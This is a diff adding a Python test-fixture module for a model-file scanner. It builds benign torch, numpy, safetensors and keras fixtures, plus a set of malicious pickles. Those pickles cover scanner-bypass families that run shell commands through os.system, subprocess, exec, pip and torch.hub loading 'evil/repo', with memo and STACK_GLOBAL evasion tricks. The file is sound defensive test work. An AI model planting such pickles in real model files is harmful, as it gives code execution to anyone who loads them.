@@ -1,0 +1,289 @@
+"""Hand-written pickle opcodes for the model-file tests. Nothing here is ever unpickled.
+
+The malicious samples below are what public bypass reports describe (THREATS.md §6): each
+builder returns bytes only. Tests scan them; none calls pickle.load(s).
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import pickle
+import struct
+import tarfile
+import zipfile
+from pathlib import Path
+
+PROTO = b"\x80"
+STOP = b"."
+MARK = b"("
+TUPLE = b"t"
+TUPLE1 = b"\x85"
+TUPLE2 = b"\x86"
+REDUCE = b"R"
+BUILD = b"b"
+EMPTY_DICT = b"}"
+EMPTY_TUPLE = b")"
+NEWOBJ = b"\x81"
+STACK_GLOBAL = b"\x93"
+MEMOIZE = b"\x94"
+SETITEM = b"s"
+SETITEMS = b"u"
+NONE = b"N"
+BINPERSID = b"Q"
+
+
+def proto(n: int) -> bytes:
+    return PROTO + bytes([n])
+
+
+def glob(module: str, name: str) -> bytes:
+    """GLOBAL (protocol 0-3 style)."""
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def ustr(text: str) -> bytes:
+    """SHORT_BINUNICODE / BINUNICODE."""
+    raw = text.encode()
+    if len(raw) < 256:
+        return b"\x8c" + bytes([len(raw)]) + raw
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def sbytes(data: bytes) -> bytes:
+    """SHORT_BINBYTES / BINBYTES."""
+    if len(data) < 256:
+        return b"C" + bytes([len(data)]) + data
+    return b"B" + struct.pack("<I", len(data)) + data
+
+
+def binint(n: int) -> bytes:
+    return b"J" + struct.pack("<i", n)
+
+
+def put(i: int) -> bytes:
+    return b"q" + bytes([i])
+
+
+def get(i: int) -> bytes:
+    return b"h" + bytes([i])
+
+
+def call(module: str, name: str, *args: bytes) -> bytes:
+    """module.name(*args) with GLOBAL + MARK + args + TUPLE + REDUCE."""
+    return glob(module, name) + MARK + b"".join(args) + TUPLE + REDUCE
+
+
+def program(body: bytes, protocol: int = 2) -> bytes:
+    return proto(protocol) + body + STOP
+
+
+# -- malicious families (THREATS.md §6) ------------------------------------------------------
+
+
+class _Reduce:
+    """An object whose __reduce__ names a callable; only ever pickled, never unpickled."""
+
+    def __init__(self, func: object, args: tuple[object, ...]) -> None:
+        self.func = func
+        self.args = args
+
+    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
+        return self.func, self.args
+
+
+def reduce_pickle(func: object, args: tuple[object, ...], protocol: int = 4) -> bytes:
+    return pickle.dumps(_Reduce(func, args), protocol=protocol)
+
+
+def os_system(command: str = "id", protocol: int = 4) -> bytes:
+    return reduce_pickle(os.system, (command,), protocol)
+
+
+def malicious_samples() -> dict[str, bytes]:
+    """One pickle per bypass family, each expected to be blocked (critical)."""
+    import builtins
+    import functools
+    import operator
+    import subprocess
+
+    stack_global_memo = (
+        proto(4) + ustr("o") + MEMOIZE + ustr("s") + MEMOIZE
+        # build "os" and "system" from memo'd pieces is not possible without calls, so store
+        # them once and fetch them back through GET: the names only meet on the stack.
+        + ustr("os") + put(10) + b"0" + ustr("system") + put(11) + b"0"
+        + get(10) + get(11) + STACK_GLOBAL + ustr("id") + TUPLE1 + REDUCE + STOP
+    )
+    computed_name = program(
+        call("builtins", "str", ustr("os")) + ustr("system") + STACK_GLOBAL
+        + ustr("id") + TUPLE1 + REDUCE, 4)
+    build_on_global = program(
+        glob("collections", "OrderedDict") + NONE + EMPTY_DICT + ustr("__reduce__")
+        + glob("os", "system") + SETITEM + TUPLE2 + BUILD, 2)
+    importlib_chain = program(
+        glob("builtins", "getattr") + MARK
+        + call("importlib", "import_module", ustr("os")) + ustr("system") + TUPLE + REDUCE
+        + MARK + ustr("id") + TUPLE + REDUCE, 2)
+    attrgetter = program(
+        call("operator", "attrgetter", ustr("system")) + MARK
+        + call("importlib", "import_module", ustr("os")) + TUPLE + REDUCE
+        + MARK + ustr("id") + TUPLE + REDUCE, 2)
+    marshal_code = program(
+        glob("types", "FunctionType") + MARK
+        + call("marshal", "loads", sbytes(b"\xe3" + b"\x00" * 16)) + EMPTY_DICT + TUPLE
+        + REDUCE + EMPTY_TUPLE + REDUCE, 2)
+    nested = program(call("pickle", "loads", sbytes(os_system())), 2)
+    nullifai = (proto(2) + call("posix", "system", ustr("id")) + b"\xff" * 4)  # no STOP
+    inst_protocol0 = b"(S'id'\nios\nsystem\n."
+    python2_names = b"c__builtin__\neval\n(S'1+1'\ntR."
+    dotted = program(ustr("torch.serialization") + ustr("os.system") + STACK_GLOBAL
+                     + ustr("id") + TUPLE1 + REDUCE, 4)
+    return {
+        "os_system_reduce": os_system(),
+        "os_system_protocol0": os_system(protocol=0),
+        "os_system_protocol1": os_system(protocol=1),
+        "os_system_protocol2": os_system(protocol=2),
+        "os_system_protocol3": os_system(protocol=3),
+        "os_system_protocol5": os_system(protocol=5),
+        "subprocess_popen": reduce_pickle(subprocess.Popen, (["id"],)),
+        "subprocess_check_output": reduce_pickle(subprocess.check_output, (["id"],)),
+        "builtins_exec": reduce_pickle(builtins.exec, ("import os",)),
+        "builtins_eval": reduce_pickle(builtins.eval, ("1+1",)),
+        "builtins_compile_getattr": program(call("builtins", "compile", ustr("1"), ustr("f"),
+                                                 ustr("eval")), 2),
+        "runpy_run_path": program(call("runpy", "run_path", ustr("/tmp/x.py")), 2),
+        "runpy_run_code": program(call("runpy", "_run_code", ustr("print(1)"), EMPTY_DICT), 2),
+        "importlib_import_module": importlib_chain,
+        "pkgutil_resolve_name": program(
+            call("pkgutil", "resolve_name", ustr("os:system")) + MARK + ustr("id") + TUPLE
+            + REDUCE, 2),
+        "pip_main": program(call("pip", "main", b"]" + ustr("install") + b"a"), 2),
+        "pip_internal_main": program(call("pip._internal", "main", b"]"), 2),
+        "operator_attrgetter": attrgetter,
+        "operator_methodcaller": reduce_pickle(operator.methodcaller, ("system", "id")),
+        "functools_partial": reduce_pickle(functools.partial, (os.system, "id")),
+        "marshal_function": marshal_code,
+        "nested_pickle": nested,
+        "memo_stack_global": stack_global_memo,
+        "computed_stack_global": computed_name,
+        "build_on_global": build_on_global,
+        "inst_protocol0": inst_protocol0,
+        "python2_builtin_names": python2_names,
+        "nullifai_broken": nullifai,
+        "attribute_walk": dotted,
+        "asyncio_subprocess": program(call("asyncio.subprocess", "create_subprocess_shell",
+                                           ustr("id")), 2),
+        "timeit_code_string": program(call("timeit", "timeit", ustr("import os")), 2),
+        "pdb_run": program(call("pdb", "run", ustr("import os")), 2),
+        "ensurepip_run_pip": program(call("ensurepip", "_run_pip", b"]"), 2),
+        "numpy_f2py": program(call("numpy.f2py", "compile", ustr("x")), 2),
+        "torch_hub_load": program(call("torch.hub", "load", ustr("evil/repo"),
+                                       ustr("model")), 2),
+        "webbrowser_open": program(call("webbrowser", "open", ustr("http://x")), 2),
+        "socket_connect": program(call("socket", "create_connection", ustr("x")), 2),
+    }
+
+
+# -- benign, shaped like what torch writes ------------------------------------------------
+
+
+def torch_like_state_dict(tensors: int = 3) -> bytes:
+    """The opcodes torch.save writes for an OrderedDict of tensors (protocol 2, persistent
+    ids), built by hand so the test runs where torch is not installed."""
+    out = proto(2) + glob("collections", "OrderedDict") + put(0) + EMPTY_TUPLE + REDUCE + put(1)
+    out += MARK
+    for i in range(tensors):
+        out += ustr(f"layer{i}.weight")
+        out += glob("torch._utils", "_rebuild_tensor_v2") + put(2) if i == 0 else get(2)
+        out += MARK
+        # persistent id ('storage', torch.FloatStorage, key, location, numel)
+        out += MARK + ustr("storage")
+        out += glob("torch", "FloatStorage") + put(3) if i == 0 else get(3)
+        out += ustr(str(i))
+        out += ustr("cpu") + binint(12) + TUPLE + BINPERSID
+        out += binint(0)
+        out += binint(3) + binint(4) + TUPLE2
+        out += binint(4) + binint(1) + TUPLE2
+        out += b"\x89"  # NEWFALSE: requires_grad
+        out += get(0) + EMPTY_TUPLE + REDUCE  # backward hooks: OrderedDict()
+        out += TUPLE + REDUCE
+    out += SETITEMS
+    return out + STOP
+
+
+def torch_zip(path: Path, data_pkl: bytes, name: str = "archive", storages: int = 3,
+              storage_bytes: int = 48) -> Path:
+    """A torch zip checkpoint: `<name>/data.pkl`, `<name>/data/<i>`, version, byteorder."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
+        zf.writestr(f"{name}/data.pkl", data_pkl)
+        zf.writestr(f"{name}/byteorder", "little")
+        for i in range(storages):
+            zf.writestr(f"{name}/data/{i}", b"\x00" * storage_bytes)
+        zf.writestr(f"{name}/version", "3\n")
+        zf.writestr(f"{name}/.data/serialization_id", "1234")
+    return path
+
+
+def npy_object(payload: bytes) -> bytes:
+    """An .npy file with an object dtype: the header, then a pickle."""
+    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    pad = 64 - (10 + len(header) + 1) % 64
+    text = (header + " " * pad + "\n").encode("latin-1")
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + payload
+
+
+def npy_plain(values: int = 4) -> bytes:
+    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({values},), }}"
+    pad = 64 - (10 + len(header) + 1) % 64
+    text = (header + " " * pad + "\n").encode("latin-1")
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + b"\x00" * 8 * values
+
+
+def safetensors(tensors: dict[str, tuple[str, list[int], int]], *, header_extra: str = "",
+                trailing: bytes = b"", offsets: dict[str, list[int]] | None = None) -> bytes:
+    """A safetensors file: {name: (dtype, shape, nbytes)} laid out back to back."""
+    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
+    cursor = 0
+    for name, (dtype, shape, nbytes) in tensors.items():
+        span = (offsets or {}).get(name, [cursor, cursor + nbytes])
+        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": span}
+        cursor += nbytes
+    raw = json.dumps(header).encode()
+    if header_extra:
+        raw = raw[:-1] + header_extra.encode() + b"}"
+    raw += b" " * (-len(raw) % 8)
+    return struct.pack("<Q", len(raw)) + raw + b"\x00" * cursor + trailing
+
+
+def keras_zip(path: Path, layers: list[dict[str, object]]) -> Path:
+    config = {"module": "keras", "class_name": "Sequential",
+              "config": {"name": "seq", "layers": layers}}
+    with zipfile.ZipFile(path, "w") as zf:
+        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
+        zf.writestr("config.json", json.dumps(config))
+        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 32)
+    return path
+
+
+def legacy_tar(path: Path, record: bytes | None = None) -> Path:
+    """torch's legacy tar checkpoint: sys_info, pickle, storages, tensors."""
+    if record is None:
+        record = program(ustr("0") + ustr("cpu") + glob("torch", "FloatStorage")
+                         + b"\x87", 2)
+    storages = (pickle.dumps(1, protocol=2) + record + struct.pack("<q", 2) + b"\x00" * 8
+                + pickle.dumps([], protocol=2))
+    tensors = pickle.dumps(0, protocol=2)
+    members = {
+        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True},
+                                 protocol=2),
+        "pickle": program(glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE, 2),
+        "storages": storages,
+        "tensors": tensors,
+    }
+    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tf:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    return path
